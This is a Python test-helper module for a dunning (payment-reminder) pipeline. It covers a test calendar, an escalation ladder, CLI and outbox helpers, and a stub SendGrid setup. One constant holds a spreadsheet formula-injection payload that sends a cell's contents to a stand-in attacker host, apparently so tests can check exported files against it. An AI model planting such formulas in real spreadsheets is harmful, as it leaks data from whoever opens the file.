"""What the pipeline tests share: the calendar of their stories, the command line driven in
process, and what a run leaves behind (the outbox, the ledger's row counts)."""

from __future__ import annotations

import email
import json
import shutil
import sys
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import yaml
from typer.testing import CliRunner, Result

from dunning.cli import app
from tests.conftest import Portfolio, query

MONDAY = date(2026, 11, 2)
# The installed command, for the tests that run it as a separate process.
DUNNING = shutil.which("dunning", path=str(Path(sys.executable).parent)) or "dunning"


# A value a spreadsheet would run as a formula, for the files people open.
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# A short ladder to the court: a reminder, a formal notice, the injunction file.
COURT_LADDER = [
    {"name": "friendly_reminder", "channel": "email", "days_after_due": 3,
     "template": "friendly_reminder"},
    {"name": "formal_notice", "channel": "letter", "days_after_due": 10,
     "requires_approval": True, "template": "formal_notice"},
    {"name": "injunction", "channel": "injunction", "days_after_due": 20,
     "min_days_since_previous": 3, "requires_approval": True},
]


def change_policy(policy_file: Path, **fields: Any) -> None:
    """Rewrite the test's policy file with these top-level fields."""
    data = yaml.safe_load(policy_file.read_text(encoding="utf-8"))
    data.update(fields)
    policy_file.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")


def day(n: int) -> date:
    return MONDAY + timedelta(days=n)


def cli(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


def run(as_of: date, *extra: str, expect: int = 0) -> dict[str, Any]:
    result = cli("run", "--as-of", as_of.isoformat(), "--json", *extra)
    assert result.exit_code == expect, (result.stdout, result.stderr, result.exception)
    return json.loads(result.stdout)


def as_json(*args: str) -> Any:
    result = cli(*args, "--json")
    assert result.exit_code == 0, (result.stdout, result.stderr, result.exception)
    return json.loads(result.stdout)


def status(portfolio: Portfolio) -> dict[str, dict[str, Any]]:
    return {row["invoice_id"]: row for row in as_json("status")}


def outbox(portfolio: Portfolio) -> list[email.message.Message]:
    folder = portfolio.folder / "outbox"
    return [email.message_from_bytes(p.read_bytes()) for p in sorted(folder.glob("*.eml"))]


def counts(db_url: str) -> tuple[int, ...]:
    return tuple(query(db_url, f"SELECT count(*) FROM {table}")[0][0]
                 for table in ("transition", "action", "action_invoice", "approval"))


def approve_pending(stage: str) -> int:
    """Approve the one action waiting at `stage`, as the credit manager; returns its id."""
    (action,) = [a for a in as_json("actions", "--status", "pending_approval")
                 if a["stage"] == stage]
    result = cli("approve", str(action["action_id"]), "--by", "Claire")
    assert result.exit_code == 0, result.stderr
    return int(action["action_id"])


def one_invoice_each(portfolio: Portfolio, customers: int) -> None:
    """Customers C0000, C0001..., each with one invoice five days overdue (an email each)."""
    for n in range(customers):
        portfolio.customer(f"C{n:04d}")
        portfolio.invoice(f"I{n:04d}", f"C{n:04d}", due=day(-5))
    portfolio.write()


def email_settings(policy_file: Path, **settings: Any) -> None:
    """Change the test policy's `email:` settings (timeout, concurrency...)."""
    data = yaml.safe_load(policy_file.read_text(encoding="utf-8"))
    data["email"].update(settings)
    policy_file.write_text(yaml.safe_dump(data), encoding="utf-8")


def hanging_sendgrid(policy_file: Path, monkeypatch: Any, url: str, timeout: float = 0.5) -> None:
    """SendGrid at `url` (a server that never answers), waited for `timeout` seconds."""
    email_settings(policy_file, timeout=timeout)
    monkeypatch.setenv("SENDGRID_API_KEY", "SG.test-key")
    monkeypatch.setenv("SENDGRID_API_HOST", url)


def work_calls(outcome: str = "reached", by: str = "Marc") -> list[int]:
    """Record `outcome` for every open call task, as the collectors would (a phone stage
    counts as reached once its task is worked); returns the tasks' ids."""
    tasks = [task["task_id"] for task in as_json("calls")]
    for task_id in tasks:
        result = cli("call-done", str(task_id), "--by", by, "--outcome", outcome)
        assert result.exit_code == 0, result.stderr
    return tasks
